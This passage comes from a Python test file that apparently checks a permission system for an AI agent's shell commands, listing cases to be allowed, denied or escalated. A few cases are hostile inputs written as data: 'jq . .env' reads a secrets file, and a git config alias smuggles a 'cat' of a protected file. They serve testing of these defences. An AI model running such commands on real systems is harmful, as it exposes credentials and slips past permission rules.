        *("jq . -- read.md", "jq . ../other/file.txt", "jq '.a|include'"),
    ),
    *_commands("deny", "jq . .env", deny="Read(./.env)"),
]

SUBCOMMANDS = [
    *_texts(
        "allow", 'git config user.name "Ada"', allow="Bash(git config:*)", deny="Read(config/**)"
    ),
    *_texts(
        "ask",
        *("git config --file config/k x", "git -c x=y config a b", "git config x '!cat config/k'"),
        allow="Bash(git:*)",
        deny="Read(config/**)",
    ),
]

CASES = [
    *ORDER,
    *NEWLINES,
    *JQ,
    *SUBCOMMANDS,
    *COMMAND_RULES,
    *WRAPPERS,
    *COMPOUND,
    *DENIED,
    *READING,
    *FILES,
    *PROTECTED,
    *MODES,
    *OTHER_TOOLS,
]
